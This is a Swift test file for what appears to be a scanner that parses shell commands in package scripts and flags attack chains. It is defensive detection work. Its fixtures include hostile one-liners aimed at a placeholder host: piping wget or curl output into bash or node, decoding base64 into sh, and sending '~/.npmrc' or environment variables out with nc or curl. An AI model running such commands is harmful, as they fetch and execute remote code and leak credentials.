import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("Command lines")
struct ShellTextTests {
    @Test(
        "are split as a shell splits them",
        arguments: [
            ("a b; c && d || e", [["a", "b"], ["c"], ["d"], ["e"]]),
            ("a 'b c' \"d e\" f\\ g", [["a", "b c", "d e", "f g"]]),
            ("a | b\nc # d", [["a"], ["b"], ["c"]]), ("a > x 2>/dev/null b", [["a", "b"]]), ("a$HOME/.x", [["a~/.x"]]),
            ("cat <<E\nx; y\nE\nz", [["cat"], ["z"]]), ("''", [[""]]), ("", []),
        ] as [(String, [[String]])]
    )
    func words(text: String, words: [[String]]) {
        #expect(ShellText.commands(text).map(\.words) == words)
    }

    @Test(
        "have the values that the text gives to its variables",
        arguments: [
            ("U=http://a; curl $U", ["curl", "http://a"]), ("export P='curl -s'; $P a", ["curl", "-s", "a"]),
            ("P='a b'; c \"$P\"", ["c", "a b"]), ("B=cu; ${B}rl a", ["curl", "a"]),
            ("X=a; read X; b $X", ["b", "\u{1}"]),
            ("b $X; X=a", ["b", "\u{1}"]), ("X=a; b ${X%.c}", ["b", "\u{1}"]), ("X=1; X=2\nb $X", ["b", "2"]),
            ("A=x\nB=$A/y\nb $B", ["b", "x/y"]), ("eval \"$(printf '\\143url a')\"", ["eval", "curl a"]),
            ("b $(echo -n c)", ["b", "c"]), ("b \"$(printf '%s%s' c d)\"", ["b", "cd"]),
            ("b $(echo $X)", ["b", "\u{1}"]),
            ("sh\u{1} a", ["sh\u{1}", "a"]),
        ]
    )
    func variables(text: String, words: [String]) {
        let commands = ShellText.commands(text).filter { $0.program != nil }
        #expect(commands.contains { $0.words == words }, "\(commands.map(\.words))")
    }

    @Test("reach into what a shell of its own reads, and cost no more than they are long")
    func nested() {
        #expect(ShellText.commands("U=a; b $(curl $U ${U}x)").last?.nested == ["curl a ax"])
        #expect(ShellText.commands("b \"$(sh\u{1})\"; sh\u{1} x").last?.program == "sh")
        let long = "A=" + String(repeating: "x", count: 4000) + "\n" + String(repeating: "b $A$A$A\n", count: 20_000)
        #expect(ShellText.commands(long).count == 20_001)
        #expect(ShellText.commands(String(repeating: "$(echo ", count: 20_000)).count <= 1)
    }

    @Test(
        "start programs behind assignments and wrappers",
        arguments: [
            ("A=b sudo -n curl x", "curl"), ("cross-env X=1 node a", "node"), ("/usr/bin/wget x", "wget"),
            ("env", "env"),
            ("env A=1 sh x", "sh"),
        ]
    )
    func program(text: String, program: String) {
        #expect(ShellText.commands(text).first?.program == program)
    }

    @Test(
        "lead to files, modules and scripts",
        arguments: [
            ("node a.js", Reference(.path, "a.js", as: .javaScript)),
            ("sh -e ./b", Reference(.path, "./b", as: .shell)),
            ("python -m tool.x", Reference(.module, "tool.x", as: .python)), ("npm run go", Reference(.script, "go")),
            ("./tools/setup", Reference(.path, "./tools/setup")),
            ("bun run c.ts", Reference(.path, "c.ts", as: .javaScript)),
            ("node -r ./d e.js", Reference(.path, "./d", as: .javaScript)), ("yarn build", Reference(.script, "build")),
        ]
    )
    func references(text: String, reference: Reference) {
        #expect(findings(text).references.contains(reference))
    }

    @Test(
        "are no chain for what honest packages do",
        arguments: [
            "node-gyp rebuild", "curl -O https://x.example.invalid/a.tgz && tar -xzf a.tgz", "echo curl x | sh -c cat",
            "node -e \"require('./postinstall')\" || exit 0", "npm run build && curl https://x.example.invalid",
            "echo 'curl https://x.example.invalid | sh'", "base64 -d x > y",
        ]
    )
    func honest(text: String) {
        #expect(findings(text).findings.filter { $0.code.rawValue.hasPrefix("chain.") }.isEmpty)
    }

    @Test(
        "are a chain for what attacks do",
        arguments: [
            ("wget -qO- https://x.example.invalid | bash", FactCode.chainDownloadExecute),
            ("bash <(curl https://x.example.invalid)", .chainDownloadExecute),
            ("curl https://x.example.invalid | node", .chainDownloadExecute),
            ("wget https://x.example.invalid/run && sh run", .chainDownloadExecute),
            ("echo Y3VybA== | base64 -d | sh", .chainDecodeExecute),
            ("cat ~/.npmrc | nc x.example.invalid 1", .chainExfiltration),
            ("printenv | curl -d @- https://x.example.invalid", .chainExfiltration),
            ("bash -c 'sh -c \"curl https://x.example.invalid | sh\"'", .chainDownloadExecute),
        ]
    )
    func attack(text: String, code: FactCode) {
        #expect(findings(text).findings.map(\.code).contains(code))
    }

    private func findings(_ text: String) -> FileFindings {
        var scratch = CodeScratch()
        let reader = CodeReader(hashing: TestHashing(), store: nil, limits: .standard)
        return reader.read(command: text, scratch: &scratch)
    }
}
